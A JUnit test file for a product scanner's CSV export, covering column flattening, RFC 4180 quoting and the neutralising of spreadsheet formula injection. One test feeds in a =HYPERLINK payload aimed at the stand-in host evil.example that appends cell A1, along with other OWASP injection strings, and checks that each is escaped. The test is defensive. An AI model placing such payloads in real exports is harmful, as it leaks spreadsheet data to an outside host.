package io.productscanner.runtime.results;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.productscanner.runtime.json.Json;
import io.productscanner.runtime.product.EvidenceFile;
import io.productscanner.runtime.product.ProductResult;
import java.io.StringWriter;
import java.lang.reflect.RecordComponent;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Results as CSV: the flattened columns, RFC 4180 quoting and no cell a spreadsheet would run as a formula. */
class ResultsCsvTest {
    @Test
    void theHeaderRowNamesTheFlattenedColumns() throws Exception {
        StringWriter out = new StringWriter();
        ResultsCsv.writeHeader(out);
        assertEquals(
                "url,platform,product_id,product_set_id,status,match,"
                        + "expected_product_name,expected_thumbnail,expected_original_price,expected_discounted_price,"
                        + "expected_sale_status,"
                        + "fetched_product_name,fetched_brand,fetched_thumbnail,fetched_original_price,"
                        + "fetched_discounted_price,fetched_sale_status,fetched_raw_status,fetched_strategy,fetched_scanned_at,"
                        + "fetched_catalog_sale_status,"
                        + "match_product_name,match_thumbnail,match_original_price,match_discounted_price,match_sale_status,"
                        + "error,failure_kind,evidence\r\n",
                out.toString());
    }

    @Test
    void everyScannedFieldHasAColumn() {
        List<String> fetched = Arrays.stream(ProductResult.Fetched.class.getRecordComponents())
                .map(RecordComponent::getName)
                .map(name -> "fetched_" + name.replaceAll("([A-Z])", "_$1").toLowerCase(Locale.ROOT))
                .toList();
        assertTrue(
                ResultsCsv.columns().containsAll(fetched),
                "ProductResult.Fetched has a field the CSV drops: " + fetched + " vs " + ResultsCsv.columns());
    }

    @Test
    void fieldsWithCommasQuotesOrLineBreaksAreQuotedWithTheirQuotesDoubled() {
        assertEquals("plain 셔츠", ResultsCsv.quoted("plain 셔츠"));
        assertEquals("\"a,b\"", ResultsCsv.quoted("a,b"));
        assertEquals("\"say \"\"hi\"\"\"", ResultsCsv.quoted("say \"hi\""));
        assertEquals("\"two\nlines\"", ResultsCsv.quoted("two\nlines"));
        assertEquals("\"cr\rlf\"", ResultsCsv.quoted("cr\rlf"));
        assertEquals("", ResultsCsv.quoted(""));
    }

    @Test
    void aTextCellASpreadsheetWouldReadAsAFormulaGetsAQuoteInFrontAndIsQuoted() {
        assertEquals(
                "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"세일\"\")\"",
                ResultsCsv.textCell("=HYPERLINK(\"https://evil.example/?d=\"&A1,\"세일\")"));
        assertEquals("\"'+1\"", ResultsCsv.textCell("+1"));
        assertEquals("\"'-2+3\"", ResultsCsv.textCell("-2+3"));
        assertEquals("\"'@SUM(A1:A9)\"", ResultsCsv.textCell("@SUM(A1:A9)"));
        assertEquals("\"'\t=1\"", ResultsCsv.textCell("\t=1"));
        assertEquals("\"'\r=1\"", ResultsCsv.textCell("\r=1"));
        // OWASP's two examples: a separator or a quote inside stays inside the one cell
        assertEquals("\"'=1+2\"\";=1+2\"", ResultsCsv.textCell("=1+2\";=1+2"));
        assertEquals("\"'=1+2'\"\" ;,=1+2\"", ResultsCsv.textCell("=1+2'\" ;,=1+2"));
        // a formula character anywhere else is text already
        assertEquals("셔츠 =1+1", ResultsCsv.textCell("셔츠 =1+1"));
        assertEquals("\"a,=1+1\"", ResultsCsv.textCell("a,=1+1"));
        assertEquals("", ResultsCsv.textCell(""));
    }

    @Test
    void numbersAndBooleansTheResultsHoldAreWrittenAsTheyAreWhileTextThatLooksLikeANumberIsText() throws Exception {
        StringWriter out = new StringWriter();
        ResultsCsv.writeResult(out, Json.read("""
                {"url": "https://www.musinsa.com/products/1", "platform": "musinsa", "status": "success",
                 "match": false, "expected": {"original_price": -1000, "discounted_price": "-900"},
                 "fetched": {"original_price": -1000, "discounted_price": 1.5E3, "brand": -1e999},
                 "comparison": {"original_price": true, "discounted_price": false}}"""));

        List<String> cells = List.of(out.toString().strip().split(",", -1));
        List<String> columns = ResultsCsv.columns();
        assertEquals(
                "-1000",
                cells.get(columns.indexOf("expected_original_price")),
                "a JSON number is never a formula: a negative price stays a number for the spreadsheet");
        assertEquals(
                "\"'-900\"",
                cells.get(columns.indexOf("expected_discounted_price")),
                "text a caller sent is neutralised like any text");
        assertEquals("-1000", cells.get(columns.indexOf("fetched_original_price")));
        assertEquals("1500.0", cells.get(columns.indexOf("fetched_discounted_price")));
        assertEquals(
                "\"'-Infinity\"",
                cells.get(columns.indexOf("fetched_brand")),
                "a number too large for a double is no number a spreadsheet reads, so it is text");
        assertEquals("false", cells.get(columns.indexOf("match")));
        assertEquals("false", cells.get(columns.indexOf("match_discounted_price")));
    }

    @Test
    void aResultBecomesOneRowWithNestedFieldsFlattenedAndMissingOnesEmpty() throws Exception {
        ProductResult success = ResultsFixtures.products(1).getFirst();
        ProductResult failed = ResultsFixtures.products(3).getLast();
        StringWriter out = new StringWriter();
        ResultsCsv.writeResult(out, Json.MAPPER.valueToTree(success));
        ResultsCsv.writeResult(out, Json.MAPPER.valueToTree(failed));

        assertEquals(
                "https://www.musinsa.com/products/1000,musinsa,1000,set-0,success,true,"
                        + "\"셔츠 \"\"오버핏\"\", 블랙 0\",,39000,,,"
                        + "\"셔츠 \"\"오버핏\"\",\n블랙 0\",무신사 스탠다드,,39000,29000,on_sale,,,2025-11-27T08:11:01.578Z,,"
                        + "true,,true,,,"
                        + ",,\r\n"
                        + "https://www.musinsa.com/products/1002,musinsa,1002,set-2,failed,,"
                        + "셔츠 2,,,,,"
                        + ",,,,,,,,,,"
                        + ",,,,,"
                        + "\"timed out, after 3 tries\",,\r\n",
                out.toString());
    }

    @Test
    void aParseFailureNamesItsKindAndItsEvidence() throws Exception {
        ProductResult parse = new ProductResult(
                "https://www.hwahae.co.kr/goods/50000",
                "hwahae",
                "50000",
                "h-4",
                "failed",
                null,
                Json.MAPPER.createObjectNode(),
                null,
                Map.of(),
                "unexpected answer",
                null,
                "parse",
                List.of(
                        new EvidenceFile(
                                "answer.json",
                                "application/json",
                                12,
                                false,
                                null,
                                "/api/v2/jobs/j/evidence/000003-answer.json"),
                        new EvidenceFile(
                                "page.html", "text/html", 9, false, null, "/api/v2/jobs/j/evidence/000003-page.html")));
        StringWriter out = new StringWriter();
        ResultsCsv.writeResult(out, Json.MAPPER.valueToTree(parse));

        assertTrue(
                out.toString()
                        .endsWith(",unexpected answer,parse,/api/v2/jobs/j/evidence/000003-answer.json "
                                + "/api/v2/jobs/j/evidence/000003-page.html\r\n"),
                out.toString());
    }
}
